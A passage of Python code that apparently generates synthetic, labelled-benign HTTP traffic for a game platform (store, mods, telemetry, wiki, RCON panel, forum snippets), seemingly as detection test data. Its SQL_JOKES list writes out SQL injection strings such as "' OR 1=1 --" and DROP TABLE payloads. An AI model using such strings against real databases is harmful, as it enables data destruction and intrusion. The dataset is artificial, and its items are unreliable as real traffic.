    g.add("topup", "benign", "POST", "/api/wallet/topup", g.browser(H_STORE, accept="json", ctype="application/json"),
          js({"pack": "gems_2800", "paymentMethod": "card", "returnUrl": f"https://{H_STORE}/wallet?status=done"}))
    g.add("receipt", "benign", "POST", "/webhooks/payments", g.tool(H_STORE, "PaymentsProvider/1.0 (+https://pay.example.com/webhooks)",
          ctype="application/json", extra=[["X-Signature", "t=1717432210,v1=" + g.hexs(64)]]),
          js({"id": "evt_" + g.alnum(24), "type": "payment_intent.succeeded", "data": {"object": {"amount": 1999, "currency": "eur",
              "metadata": {"playerId": "88412", "pack": "gems_2800"}}}}))
    g.add("cart", "benign", "GET", "/cart", g.browser(H_STORE, cookie=f"sid={g.alnum(32)}; cart=%5B7731%2C1002%5D; currency=EUR"))


def b_mods(g):
    manifest = js({"name": "Better Hats", "id": "owl.betterhats", "version": "2.1.0", "gameVersion": ">=1.42.0",
                   "authors": ["lunar_owl"], "dependencies": {"owl.corelib": "^1.3"}, "tags": ["cosmetic", "client-side"]})
    fake_zip = "PK\x03\x04\x14\x00\x00\x00\x08\x00" + "\x00" * 14 + "\x0d\x00\x00\x00textures/hat.png" + "\x8b\x1f\x08\x00" + "PK\x05\x06"
    ct, body = g.multipart([("manifest", None, None, manifest), ("archive", "better_hats_2.1.0.zip", "application/zip", fake_zip),
                            ("preview", "preview.jpg", "image/jpeg", "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00H\x00H\x00\x00")])
    g.add("upload", "benign", "POST", "/workshop/upload", g.browser(H_MODS, ctype=ct, referer=f"https://{H_MODS}/workshop/new"), body)
    ct, body = g.multipart([("title", None, None, "Winter Map Pack"), ("description", None, None,
                            "3 snowy maps for koth & ctf. Feedback welcome!\n\nChangelog:\n- fixed spawn exploits\n- better lighting"),
                            ("archive", "winter_pack_v3.zip", "application/zip", fake_zip)])
    g.add("upload", "benign", "POST", "/workshop/upload", g.browser(H_MODS, ctype=ct), body)
    g.add("manifest", "benign", "POST", "/workshop/api/manifest", g.api(H_MODS, ctype="application/json"),
          js({"name": "Better Hats", "files": [{"path": "scripts/hats.lua", "sha1": g.hexs(40)},
              {"path": "textures/hat_red.png", "sha1": g.hexs(40)}, {"path": "locale/de.json", "sha1": g.hexs(40)}]}))
    for _ in range(6):
        g.add("browse", "benign", "GET", "/api/mods?" + qs([("q", g.pick(["hud", "better hats", "map pack", "QoL", "reshade"])),
              ("sort", g.pick(["downloads", "rating", "updated"])), ("tag", g.pick(["cosmetic", "gameplay", "maps", "ui"])), ("page", str(g.num(1, 5)))]),
              g.browser(H_MODS, accept="json"))
    for f in ["better_hats_2.1.0.zip", "winter_pack_v3.zip", "owl-corelib-1.3.2.zip"]:
        g.add("download", "benign", "GET", "/api/mods/download?file=" + enc(f), g.api(H_MODS, accept="*/*"))
    g.add("rate", "benign", "POST", "/api/mods/owl.betterhats/reviews", g.browser(H_MODS, accept="json", ctype="application/json"),
          js({"stars": 5, "text": "10/10 would wear hat again. works w/ 1.42.7 :-)"}))


def b_replays(g):
    for _ in range(6):
        raw = bytes(g.rng.randrange(256) for _ in range(g.num(90, 300)))
        g.add("replay-chunk", "benign", "POST", f"/v1/replays/{g.num(10**8, 10**9)}/chunks/{g.num(0, 40)}",
              g.api(H_STATS, ctype="application/json"), js({"seq": g.num(0, 40), "codec": "zstd", "data": base64.b64encode(raw).decode()}))
    for _ in range(3):
        g.add("replay-get", "benign", "GET", f"/replays/get?match={g.num(10**5, 10**6)}&name=" + enc(g.pick(["match.dem", "highlight_01.dem", "round12-ace.dem"])),
              g.api(H_STATS, accept="*/*"))
    for _ in range(6):
        ev = [{"type": g.pick(["FRAME_STATS", "NET_STATS", "LOADING_TIME"]), "ts": 1717432210000 + g.num(0, 10**6),
               "fps": {"avg": g.num(60, 240), "p1Low": g.num(30, 120)}, "ping": g.num(8, 140), "packetLoss": round(g.rng.random() * 0.02, 4)}
              for _ in range(g.num(1, 4))]
        g.add("telemetry", "benign", "POST", "/v1/telemetry/batch", g.api(H_TELE, ctype="application/json"),
              js({"@type": "type.googleapis.com/ember.telemetry.v1.Batch", "sessionId": g.hexs(32), "build": "1.42.7+r88123", "events": ev}))
    g.add("crash", "benign", "POST", "/v1/crashes", g.api(H_TELE, ctype="application/json"),
          js({"build": "1.42.7", "os": "Windows 10 22H2", "gpu": "NVIDIA GeForce RTX 3070 (551.86)",
              "exception": "EXCEPTION_ACCESS_VIOLATION reading address 0x0000000000000018",
              "stack": ["EmberRealms.exe!Renderer::SubmitDrawList(DrawList const &) [renderer.cpp:812]",
                        "EmberRealms.exe!FrameGraph::Execute() [framegraph.cpp:201]", "kernel32.dll!BaseThreadInitThunk()"],
              "logTail": "[13:22:01][Warn] Texture pool over budget (2048MB > 1800MB)\n[13:22:02][Error] Device removed?"}))
    ct, body = g.multipart([("meta", None, None, js({"build": "1.42.7", "reason": "hang"})),
                            ("dump", "ember_2024-06-03_1322.dmp", "application/octet-stream", "MDMP\x93\xa7\x00\x00\x0d\x00\x00\x00")])
    g.add("crash", "benign", "POST", "/v1/crashes/minidump", g.tool(H_TELE, "EmberCrashReporter/1.42.7", ctype=ct), body)


def b_anticheat(g):
    for reason, note in [("aimbot", "snaps to heads through smoke, 40 kills 2 deaths"), ("wallhack", "prefired me 3 times behind the crates on B"),
                         ("griefing", "kept blocking spawn & team-killing"), ("toxic", "said \"uninstall & kys\" in all-chat"),
                         ("speedhack", "moving like 2x speed in round 7"), ("afk", "afk whole match, 0 dmg"),
                         ("boosting", "account shared, different playstyle every day"), ("exploit", "under the map on de_mirage (x=-300)")]:
        g.add("report", "benign", "POST", "/v1/anticheat/reports", g.api(H_API, ctype="application/json"),
              js({"suspect": g.pick(PLAYERS), "matchId": str(g.num(10**8, 10**9)), "reason": reason, "note": note, "round": g.num(1, 24)}))
    g.add("heartbeat", "benign", "POST", "/v1/anticheat/heartbeat", g.api(H_API, ctype="application/octet-stream", ua="EmberGuard/3.2.1"),
          base64.b64encode(bytes(g.rng.randrange(256) for _ in range(96))).decode())
    g.add("appeal", "benign", "POST", "/support/appeals", g.browser(H_PLAY, ctype="application/x-www-form-urlencoded"),
          form([("ban_id", "B-88231"), ("text", "I was not cheating, my mouse DPI is 3200 & I play on 144Hz. Pls review the demo <3")]))


WIKI_EDITS = [
    ("Frostbite_Blade", "{{Infobox weapon\n| name = Frostbite Blade\n| image = Frostbite_Blade.png\n| type = [[Sword]]\n| damage = 42–48\n"
     "| speed = 1.2\n| rarity = {{Rarity|epic}}\n}}\nThe '''Frostbite Blade''' is an epic sword dropped by [[Ice Wyrm]] in the [[Frozen Depths]].\n\n"
     "== Obtaining ==\n* 5% drop from [[Ice Wyrm]] (heroic)\n* Crafted: 3× [[Frost Core]] + 1× [[Steel Ingot]]\n\n== Trivia ==\n"
     "* Named after a dev's cat.<ref>Dev stream, 2024-03-14</ref>\n\n{{References}}\n[[Category:Swords]]\n[[Category:Epic items]]"),
    ("Patch_1.43", "== Balance ==\n{| class=\"wikitable sortable\"\n! Weapon !! Old !! New\n|-\n| [[Vector SMG]] || 24 dmg || 21 dmg\n|-\n"
     "| [[Longbow]] || 1.1s draw || 0.95s draw\n|}\n\n== Bug fixes ==\n* Fixed players getting stuck in walls on [[ar_shoots]].\n"
     "* Fixed \"out of bounds\" kills near B site.\n<!-- TODO: add hotfix notes -->"),
    ("Ice_Wyrm", "{{Infobox boss\n|name=Ice Wyrm\n|hp=1,250,000 (normal) / 3,100,000 (heroic)\n|location=[[Frozen Depths]]\n}}\n"
     "'''Ice Wyrm''' is the final boss of [[Frozen Depths]].\n=== Phase 2 (< 50% HP) ===\nStand behind the pillars when it casts "
     "''Glacial Breath''. Healers: pre-shield the tank.<br />\n{{Tip|Bring fire resistance potions!}}"),
    ("Night_Owls_(guild)", "{{Infobox guild|name=Night Owls|founded=2019|leader=[[User:Tank_mom|tank_mom]]|server=EU-West}}\n"
     "'''Night Owls''' are an EU raiding guild known for world-first ''Ice Wyrm'' heroic kill <3.\n\n{{Navbox guilds}}"),
    ("Maps/de_dust2", "'''Dust II''' is a [[Bomb defusal]] map.\n\n{| class=\"wikitable\"\n|+ Callouts\n|-\n! Area !! Callout\n|-\n| Tunnel to B || \"B tuns\"\n|-\n"
     "| Catwalk || \"Cat\" / \"Short\"\n|}\n[[File:Dust2_overview.png|thumb|300px|Overview]]"),
    ("Crafting", "== Recipes ==\n{{Recipe|output=Steel Ingot|input1=Iron Ore|qty1=2|input2=Coal|qty2=1|station=[[Forge]]}}\n"
     "{{Recipe|output=Frost Core|input1=Ice Shard|qty1=10|station=[[Arcane Table]]}}\nSee also: [[Smelting]], [[:Category:Materials]]"),
]


def b_matchmaking(g):
    for _ in range(10):
        pings = {r: g.num(8, 220) for r in g.rng.sample(REGIONS, g.num(3, 6))}
        g.add("queue", "benign", "POST", "/v1/matchmaking/queue", g.api(H_API, ctype="application/json"),
              js({"mode": g.pick(MODES), "regions": sorted(pings, key=pings.get)[:2], "pings": pings,
                  "party": [str(g.num(10000, 999999)) for _ in range(g.num(0, 3))], "crossplay": g.rng.random() < 0.5}))
    for _ in range(5):
        g.add("queue-status", "benign", "GET", f"/v1/matchmaking/tickets/{g.hexs(24)}", g.api(H_API))
    for _ in range(3):
        g.add("regions", "benign", "GET", "/api/matchmaking/regions?" + qs([("maxPing", str(g.pick([60, 80, 120]))), ("platform", "pc")]), g.api(H_API))
    g.add("netdiag", "benign", "GET", "/api/matchmaking/netdiag/ping?" + qs([("host", "eu-west.qos.example.com"), ("count", "4")]), g.api(H_API))
    g.add("cancel", "benign", "DELETE", f"/v1/matchmaking/tickets/{g.hexs(24)}", g.api(H_API))
    g.add("lobby", "benign", "POST", "/v1/lobbies", g.api(H_API, ctype="application/json"),
          js({"name": "chill customs 5v5 <3", "map": "de_mirage", "password": "owls", "maxPlayers": 10, "private": True}))


def b_tournaments(g):
    for _ in range(6):
        g.add("bracket", "benign", "GET", f"/api/tournaments/{g.num(10, 200)}/brackets?" + qs([("stage", g.pick(["groups", "playoffs", "finals"])),
              ("format", g.pick(["double-elim", "single-elim", "swiss"]))]), g.browser(H_ESPORTS, accept="json"))
    for name, tag in [("Low Elo Legends", "LEL"), ("Team <3 Owls", "OWL"), ("Los Chicos del Mid", "MID"), ("Ctrl+Alt+Defeat", "CAD"),
                      ("Drop Shot Gaming", "DSG"), ("Öl & Würstchen e.V.", "OEW")]:
        g.add("team", "benign", "POST", f"/api/tournaments/{g.num(10, 200)}/teams", g.browser(H_ESPORTS, accept="json", ctype="application/json"),
              js({"name": name, "tag": tag, "roster": g.rng.sample(PLAYERS, 5), "sub": g.pick(PLAYERS)}))
    for _ in range(3):
        g.add("score", "benign", "POST", f"/api/tournaments/91/matches/{g.num(1, 64)}/result", g.api(H_ESPORTS, ctype="application/json"),
              js({"maps": [{"map": g.pick(MAPS), "score": [13, g.num(3, 11)]}, {"map": g.pick(MAPS), "score": [g.num(5, 11), 13]}],
                  "winner": "LEL", "note": "map 3 not played (bo2 groups)"}))
    g.add("checkin", "benign", "POST", "/api/tournaments/91/checkin", g.browser(H_ESPORTS, accept="json", ctype="application/x-www-form-urlencoded"),
          form([("team_id", "12"), ("captain", "tank_mom"), ("csrf", g.alnum(24))]))
    g.add("schedule", "benign", "GET", "/api/tournaments?" + qs([("game", "ember-realms"), ("region", "EU"), ("from", "2024-06-01"), ("status", "upcoming")]),
          g.browser(H_ESPORTS, accept="json"))
    g.add("invite", "benign", "POST", "/api/tournaments/91/invites", g.api(H_ESPORTS, ctype="application/json", ua=UA_BROWSERS[1]),
          js({"to": "captain@example.org", "subject": "Invite: Summer Cup", "body": "Hi! You're invited to the Summer Cup (bo3, double elim). Check-in opens 30 min before."}))


def b_webhooks(g):
    for kind in ["channel.follow", "channel.subscribe", "channel.raid", "webhook_callback_verification"]:
        ev = {"subscription": {"id": f"{g.hexs(8)}-{g.hexs(4)}-{g.hexs(4)}-{g.hexs(4)}-{g.hexs(12)}", "type": kind, "version": "1",
              "status": "enabled", "transport": {"method": "webhook", "callback": f"https://{H_HOOKS}/eventsub/callback"}}}
        if kind == "webhook_callback_verification":
            ev["challenge"] = g.alnum(40)
        else:
            ev["event"] = {"user_name": g.pick(PLAYERS), "broadcaster_user_login": "shroomie", "viewers": g.num(2, 800)}
        g.add("eventsub", "benign", "POST", "/eventsub/callback", g.tool(H_HOOKS, "Twitch-Eventsub-Webhooks/1.0", ctype="application/json",
              extra=[["Twitch-Eventsub-Message-Id", g.hexs(32)], ["Twitch-Eventsub-Message-Retry", "0"],
                     ["Twitch-Eventsub-Message-Type", "webhook_callback_verification" if kind.startswith("webhook") else "notification"],
                     ["Twitch-Eventsub-Message-Signature", "sha256=" + g.hexs(64)], ["Twitch-Eventsub-Message-Timestamp", "2024-06-03T19:22:11.4129Z"],
                     ["Twitch-Eventsub-Subscription-Type", kind if not kind.startswith("webhook") else "channel.follow"]]), js(ev))
    for cmd, opts in [("rank", [{"name": "player", "type": 3, "value": "lunar_owl"}]), ("lfg", [{"name": "mode", "type": 3, "value": "ranked"}]),
                      ("patchnotes", [])]:
        g.add("discord", "benign", "POST", "/api/integrations/discord/interactions", g.tool(H_HOOKS, "Discord-Interactions/1.0 (+https://discord.example.com)",
              ctype="application/json", extra=[["X-Signature-Ed25519", g.hexs(128)], ["X-Signature-Timestamp", str(1717432210 + g.num(0, 999))]]),
              js({"type": 2, "id": str(g.num(10**17, 10**18)), "data": {"name": cmd, "options": opts}, "guild_id": "1130000000000000001",
                  "member": {"user": {"username": g.pick(PLAYERS).lower()}}}))
    g.add("webhook-config", "benign", "POST", "/api/guilds/7731/integrations/webhooks", g.browser(H_FORUM, accept="json", ctype="application/json"),
          js({"name": "raid alerts", "url": "https://chat.example.com/api/webhooks/1130000000000000001/" + g.alnum(60), "events": ["raid.start"]}))
    g.add("overlay", "benign", "GET", "/overlay/alerts?" + qs([("channel", "shroomie"), ("theme", "neon"), ("volume", "0.6")]), g.browser(H_HOOKS, accept="*/*"))
    g.add("overlay-image", "benign", "GET", "/overlay/proxy?" + qs([("img", "https://cdn.example.com/emotes/owlHype.gif")]), g.browser(H_HOOKS, accept="image/*"))


def b_servers(g):
    for _ in range(10):
        q = [("region", g.pick(["eu", "na", "sa", "asia", "oce"])), ("map", g.pick(MAPS))]
        if g.rng.random() < 0.5:
            q.append(("notfull", "1"))
        if g.rng.random() < 0.5:
            q.append(("tags", g.pick(["competitive,128tick", "surf,fastdl", "casual", "retake,!ws"])))
        if g.rng.random() < 0.3:
            q.append(("q", g.pick(["Owl Nest", "[EU] Fun DM", "24/7 dust2", "surf & chill"])))
        g.add("browse", "benign", "GET", "/api/servers?" + qs(q), g.api(H_SERVERS, ua="Valve/Steam HTTP Client 1.0 (730)", token=False))
    for name in ["[EU] Owl Nest | 128tick | FastDL", "24/7 Dust2 ♥ Only Headshots", "Surf & Chill #2 (Timer, !rank)", "RETAKES | !ws !knife !gloves | 64-tick"]:
        g.add("heartbeat", "benign", "POST", "/api/servers/heartbeat", g.api(H_SERVERS, ctype="application/json", ua="srcds/1.38.8.1", token=False,
              extra=[["X-Server-Token", g.hexs(32)]]),
              js({"name": name, "map": g.pick(MAPS), "players": g.num(0, 24), "maxPlayers": 24, "port": 27015, "secure": True,
                  "tags": "competitive,128tick", "version": "1.38.8.1"}))
    g.add("query", "benign", "GET", "/api/servers/query?" + qs([("addr", "203.0.113.44:27015")]), g.browser(H_SERVERS, accept="json"))
    g.add("favorite", "benign", "POST", "/api/servers/favorites", g.api(H_SERVERS, ctype="application/json"), js({"address": "198.51.100.71:27015"}))


def b_rcon_panel(g):
    rcon = "https://" + H_RCON + "/panel"
    for h in ["EU #3 | 128tick | !ws !knife", "Owl Nest (Night Owls private) - pw in discord", "Fun DM 24/7 [de/en]", "Surf & Chill | Tier 1-3"]:
        g.add("settings", "benign", "POST", "/panel/servers/12/settings", g.browser(H_RCON, ctype="application/x-www-form-urlencoded",
              referer=rcon + "/servers/12"), form([("hostname", h), ("maxplayers", "24"), ("tickrate", "128"), ("csrf_token", g.alnum(32))]))
    for m in ["de_inferno", "de_mirage", "workshop/123518981/de_cache", "surf_utopia_v3"]:
        g.add("changelevel", "benign", "GET", "/panel/api/servers/12/changelevel?map=" + enc(m), g.browser(H_RCON, accept="json", referer=rcon))
    g.add("cvars", "benign", "PUT", "/panel/api/servers/12/cvars", g.api(H_RCON, ctype="application/json", ua=UA_BROWSERS[0]),
          js({"cvars": {"sv_password": "owls2024!", "sv_cheats": "0", "mp_roundtime": "1.92", "sv_hostname": "Owl Nest | scrims"}, "apply": True}))
    g.add("status", "benign", "GET", "/panel/api/servers/12/status", g.browser(H_RCON, accept="json", referer=rcon))
    g.add("backup", "benign", "POST", "/panel/servers/12/backups", g.browser(H_RCON, ctype="application/x-www-form-urlencoded"),
          form([("name", "world-2024-06-03 before update"), ("csrf_token", g.alnum(32))]))
    g.add("workshop", "benign", "GET", "/panel/api/servers/12/workshop/install?id=2847173101", g.browser(H_RCON, accept="json"))
    g.add("files", "benign", "POST", "/panel/api/servers/12/files/read", g.api(H_RCON, ctype="application/json", ua=UA_BROWSERS[0]),
          js({"path": "/home/container/csgo/cfg/gamemode_competitive_server.cfg"}))


def b_wiki(g):
    for title, text in WIKI_EDITS:
        g.add("edit", "benign", "POST", f"/index.php?title={enc(title)}&action=submit", g.browser(H_WIKI, ctype="application/x-www-form-urlencoded",
              referer=f"https://{H_WIKI}/index.php?title={enc(title)}&action=edit"),
              form([("wpTextbox1", text), ("wpSummary", g.pick(["typo", "update for 1.43", "added drop rates", "+callouts table", ""])),
                    ("wpEditToken", g.hexs(32) + "+\\"), ("wpStarttime", "20240603192211"), ("wpEdittime", "20240601110455")]))
    for t in ["Frostbite_Blade", "Jack_o'_Lantern_(item)", "Lúcio", "Soldier:_76", "Category:Swords", "Special:RecentChanges?days=7&limit=100"]:
        title, _, rest = t.partition("?")
        g.add("view", "benign", "GET", "/wiki/" + quote(title, safe="/:_(),") + ("?" + rest if rest else ""), g.browser(H_WIKI))
    g.add("api", "benign", "POST", "/api.php", g.browser(H_WIKI, accept="json", ctype="application/x-www-form-urlencoded"),
          form([("action", "edit"), ("title", "User:Zer0Cool"), ("text", "Hi, I'm Zer0Cool! Main: [[Reaper]]. {{Userbox|EU}} <3"), ("format", "json"), ("token", g.hexs(32) + "+\\")]))
    g.add("search", "benign", "GET", "/index.php?" + qs([("search", "frost core drop rate"), ("title", "Special:Search"), ("go", "Go")]), g.browser(H_WIKI))
    g.add("parse", "benign", "GET", "/api.php?" + qs([("action", "parse"), ("page", "Patch 1.43"), ("prop", "text|sections"), ("format", "json")]), g.browser(H_WIKI, accept="json"))


def b_misc(g):
    for p in ["/", "/lobby", "/news", "/news/patch-1-43", "/esports", "/store/", "/help/faq"]:
        g.add("page", "benign", "GET", p, g.browser(g.pick([H_PLAY, H_STORE, H_ESPORTS])))
    for p in ["/static/js/app.8f3a1c.js", "/static/css/main.41b2.css", "/assets/textures/ui/atlas_01.png", "/fonts/Inter-Var.woff2",
              "/assets/load?path=textures/ui/atlas_02.png"]:
        g.add("asset", "benign", "GET", p, g.browser(H_CDN, accept="*/*", cookie=False))
    g.add("health", "benign", "GET", "/healthz", g.tool(H_API, "kube-probe/1.29"))
    g.add("news", "benign", "GET", "/v1/news?" + qs([("lang", "pt-BR"), ("tags", "patch,event"), ("limit", "10")]), g.api(H_API, token=False))
    g.add("config", "benign", "GET", "/v1/client/config?build=1.42.7&platform=win64", g.api(H_API, token=False))
    g.add("support", "benign", "POST", "/support/ticket", g.browser(H_PLAY, ctype="application/x-www-form-urlencoded"),
          form([("subject", "Purchase didn't arrive"), ("body", "Bought 2800 gems (order #A-77123) 2h ago, wallet still shows 120. Screenshot attached. Thx!"),
                ("email", "p@example.org")]))


# ---------------------------------------------------------------- dev-content

LUA = [
    ("hats.lua", "-- hats.lua: attach a hat to the player model\nlocal Hats = {}\nfunction Hats.onSpawn(player)\n"
     "  local hat = Assets.load(\"textures/hat_red.png\")\n  if player:getTeam() == \"red\" and not player.isBot then\n"
     "    player:attach(\"head\", hat, {offset = Vec3(0, 0.12, 0)})\n  end\nend\nEvents.on(\"PlayerSpawn\", Hats.onSpawn)\nreturn Hats\n"),
    ("config.lua", "local json = require(\"json\")\nlocal f = io.open(\"mods/betterhats/config.json\", \"r\")\nif not f then return {} end\n"
     "local data = json.decode(f:read(\"*a\"))\nf:close()\nreturn data\n"),
]
LUA_POSTS = [
    "why does this skip players?? :(\n\n```lua\nfor i = 1, #players do\n  local p = players[i]\n  if p.hp <= 0 then table.remove(players, i) end\nend\n```\niterate backwards? for i = #players, 1, -1",
    "made a tiny /gg addon <3\n\nSLASH_GG1 = \"/gg\"\nSlashCmdList[\"GG\"] = function(msg)\n  SendChatMessage(\"gg wp <3\", \"PARTY\")\nend",
    "hook.Add(\"PlayerSay\", \"ChatCommands\", function(ply, text)\n  if string.lower(text) == \"!discord\" then\n    ply:ChatPrint(\"https://chat.example.com/owls\")\n    return \"\"\n  end\nend)\n\n-- works on my server, credits appreciated ;)",
]
CSHARP = [
    "public class PlayerHealth : MonoBehaviour {\n    [SerializeField] private int maxHp = 100;\n    private int hp;\n    void Start() { hp = maxHp; }\n"
    "    public void TakeDamage(int dmg) {\n        hp = Mathf.Max(hp - dmg, 0);\n        if (hp <= 0) Destroy(gameObject);\n    }\n}",
    "LINQ question: var top = players.Where(p => p.Score > 1000).OrderByDescending(p => p.Score).Take(10).ToList(); -- this allocates every frame, how do I cache it?",
    "[HarmonyPatch(typeof(Pawn), \"Kill\")]\nstatic class Pawn_Kill_Patch {\n    static bool Prefix(Pawn __instance) {\n        return !__instance.IsColonist; // colonists never die lol\n    }\n}",
    "File.WriteAllText(Path.Combine(Application.persistentDataPath, \"save.json\"), JsonUtility.ToJson(data, true));\n// on Android this goes to /storage/emulated/0/Android/data/<pkg>/files",
]
SHADERS = [
    ("outline.glsl", "#version 330 core\nin vec2 uv;\nout vec4 fragColor;\nuniform sampler2D tex;\nuniform float thickness;\nvoid main() {\n"
     "    float a = texture(tex, uv + vec2(thickness, 0)).a + texture(tex, uv - vec2(thickness, 0)).a;\n"
     "    fragColor = a > 0.0 && texture(tex, uv).a < 0.1 ? vec4(1.0, 0.8, 0.0, 1.0) : texture(tex, uv);\n}\n"),
    ("final.fsh", "#version 120\nuniform sampler2D texture;\nvarying vec2 texcoord;\nvoid main() {\n"
     "    gl_FragColor = texture2D(texture, texcoord) * vec4(1.0, 0.9, 0.8, 1.0);\n}\n"),
    ("Sharpen.fx", "#include \"ReShade.fxh\"\nuniform float Strength < ui_type = \"slider\"; ui_min = 0.0; ui_max = 2.0; > = 0.6;\n"
     "float3 PS_Sharpen(float4 pos : SV_Position, float2 uv : TEXCOORD) : SV_Target {\n"
     "    float3 c = tex2D(ReShade::BackBuffer, uv).rgb;\n    float3 blur = tex2D(ReShade::BackBuffer, uv + BUFFER_PIXEL_SIZE).rgb;\n"
     "    return c + (c - blur) * Strength;\n}\ntechnique Sharpen { pass { VertexShader = PostProcessVS; PixelShader = PS_Sharpen; } }\n"),
]
SQL_POSTS = [
    ("How to list chars above 60?", "Running AzerothCore on my LAN. Is this right?\n\nSELECT guid, name, level FROM characters WHERE level >= 60 ORDER BY level DESC;"),
    ("Make the Lich King level 80", "UPDATE creature_template SET minlevel = 80, maxlevel = 80 WHERE entry = 36597;\n\nthen .reload creature_template? or restart worldserver?"),
    ("Is this cleanup query safe?", "Want to remove orphaned items after a char wipe:\n\nDELETE FROM item_instance WHERE owner_guid NOT IN (SELECT guid FROM characters);\n\n(backup first ofc)"),
    ("Online players with guild", "SELECT c.name, g.name AS guild FROM characters c\nLEFT JOIN guild_member gm ON gm.guid = c.guid\n"
     "LEFT JOIN guild g ON g.guildid = gm.guildid\nWHERE c.online = 1;"),
    ("CoreProtect: who griefed?", "SELECT user, COUNT(*) AS broken FROM co_block WHERE action = 0 AND time > UNIX_TIMESTAMP() - 86400\nGROUP BY user ORDER BY broken DESC LIMIT 10;"),
    ("GM account not working", "I ran INSERT INTO account_access (id, gmlevel, RealmID) VALUES (1, 3, -1); but .gm on says no permission :("),
]
SQL_JOKES = [
    "my new clan tag is Robert'); DROP TABLE Students;-- xD",
    "lmao someone named their char '; DROP TABLE players;-- and the game didnt even blink",
    "if i type ' OR 1=1 -- in the trade window do i get all the loot? :P",
    "bobby tables would be proud: \"; DROP TABLE leaderboard; --\" jk devs pls dont ban",
]
MC_CMDS = [
    "/give @p minecraft:diamond 64",
    "/execute as @a[team=red] at @s run tp @s ~ ~10 ~",
    "/summon minecraft:zombie ~ ~ ~ {CustomName:'{\"text\":\"Bob\"}',PersistenceRequired:1b}",
    "/tellraw @a {\"text\":\"Server restart in 5 min <3\",\"color\":\"red\",\"bold\":true}",
    "/gamerule keepInventory true && /whitelist add K4ti_Frost -- both needed for the event tonight",
]
CFG = [
    "bind \"F1\" \"say gg\" is the best bind ever. also bind \"F2\" \"say_team rotating B\"",
    "jumpthrow bind for the new patch:\nalias \"+jumpthrow\" \"+jump;-attack\"\nalias \"-jumpthrow\" \"-jump\"\nbind \"v\" \"+jumpthrow\"",
    "my launch options: -novid -tickrate 128 +fps_max 0 +exec autoexec.cfg -high",
    "Linux/Proton users: PROTON_LOG=1 DXVK_HUD=fps,gpuload %command% -novid fixed my stutter",
]
RCON_CMDS = [
    "status",
    "kick \"camperjoe\" \"afk too long\"",
    "changelevel de_inferno; mp_restartgame 1",
    "say \"Server restarting in 5 min, gg all <3\"",
    "sm_ban #42 1440 \"wallhack, demo in discord\"",
]
SHELL_POSTS = [
    ("CS2 dedicated server on Ubuntu", "steamcmd +force_install_dir /home/steam/cs2 +login anonymous +app_update 730 validate +quit\n"
     "cd /home/steam/cs2/game/bin/linuxsteamrt64\n./cs2 -dedicated +map de_dust2 -maxplayers 10 +sv_setsteamaccount $GSLT"),
    ("Minecraft server keeps dying at night", "I start it with: screen -S mc java -Xms2G -Xmx4G -jar server.jar nogui\n"
     "and my crontab has: 0 4 * * * /home/mc/backup.sh > /dev/null 2>&1\nis the backup killing it?"),
    ("Docker setup for friends server", "docker run -d -p 25565:25565 -e EULA=TRUE -e MEMORY=4G -v ./data:/data --name mc itzg/minecraft-server\n"
     "then docker logs -f mc | grep -i \"done\""),
    ("Windows batch to update the server", "@echo off\ncd /d \"C:\\steamcmd\"\nsteamcmd.exe +login anonymous +app_update 740 validate +quit\n"
     "start \"\" \"C:\\csgo-ds\\srcds.exe\" -game csgo -console +map de_mirage\npause"),
]
OVERLAY_TPL = [
    ("follow", "{{username}} just followed! Welcome to the nest <3"),
    ("lurk", "${user} has been lurking for ${count} days. ${random.pick 'gg' 'pog' 'lol'}"),
    ("rank", "$(user) -> $(urlfetch https://api.example.com/v2/leaderboards/ranked/text?name=$(querystring))"),
    ("donation", "{{#if amount}}{{name}} donated {{currency amount}}! {{message}}{{else}}{{name}} cheered!{{/if}}"),
]
WIDGET_HTML = '<div class="alert" id="alert">\n  <img class="badge" src="{{image}}">\n  <span class="name" id="name">{name}</span> just subbed!\n</div>\n'
WIDGET_CSS = ".alert { font-family: 'Bangers', sans-serif; animation: pop 0.4s ease-out; }\n@keyframes pop { 0% { transform: scale(0); } 100% { transform: scale(1); } }\n"
WIDGET_JS = ("window.addEventListener('onEventReceived', function (obj) {\n  const ev = obj.detail.event;\n"
             "  if (obj.detail.listener === 'subscriber-latest') {\n    document.getElementById('name').innerText = ev.name;\n"
             "    document.getElementById('alert').classList.add('show');\n    setTimeout(() => document.getElementById('alert').classList.remove('show'), 5000);\n  }\n});\n")
MISC_CODE = [
    ("Papyrus: amulet message", "Scriptname OwlAmuletScript extends ObjectReference\nEvent OnEquipped(Actor akActor)\n  if akActor == Game.GetPlayer()\n"
     "    Debug.Notification(\"The amulet hums...\")\n  endif\nEndEvent"),
    ("Skript welcome message", "on join:\n\tsend \"&aWelcome %player%! Type /help <3\" to player\n\tif player has permission \"vip.join\":\n\t\tbroadcast \"&6VIP %player% joined!\""),
    ("Bukkit: join handler", "@EventHandler\npublic void onJoin(PlayerJoinEvent e) {\n    Player p = e.getPlayer();\n"
     "    p.sendMessage(ChatColor.GREEN + \"Welcome \" + p.getName() + \"!\");\n"
     "    getServer().getScheduler().runTaskLater(this, () -> p.setGameMode(GameMode.SURVIVAL), 20L);\n}"),
    ("KubeJS coal to diamond (cheaty lol)", "ServerEvents.recipes(event => {\n  event.shaped('minecraft:diamond', ['CCC', 'CCC', 'CCC'], { C: 'minecraft:coal_block' })\n})"),
    ("Godot jump feels floaty", "func _physics_process(delta):\n\tvelocity.y += gravity * delta\n\tif Input.is_action_just_pressed(\"jump\") and is_on_floor():\n"
     "\t\tvelocity.y = JUMP_VELOCITY\n\tmove_and_slide()"),
    ("UE5 fire function crash", "void AOwlCharacter::Fire()\n{\n    if (!Weapon) return;\n    Weapon->Fire(GetActorForwardVector());\n"
     "    UGameplayStatics::PlaySoundAtLocation(this, FireSound, GetActorLocation());\n}"),
    ("SourcePawn hello plugin", "public Action Command_Hello(int client, int args)\n{\n    PrintToChat(client, \"Hello %N!\", client);\n    return Plugin_Handled;\n}"),
    ("Forum signature HTML?", "can I use this as my sig?\n<center><img src=\"https://cdn.example.com/sig/owls.png\" width=\"400\"><br><b>Night Owls</b> &lt;3</center>"),
]


def b_dev(g):
    D = "dev-content"
    # Lua mods (multipart upload + forum posts)
    for fname, code in LUA:
        ct, body = g.multipart([("meta", None, None, js({"name": "Better Hats", "version": "2.1.1"})), ("script", fname, "text/x-lua", code)])
        g.add("mod-lua", D, "POST", "/workshop/upload", g.browser(H_MODS, ctype=ct), body)
    for post in LUA_POSTS:
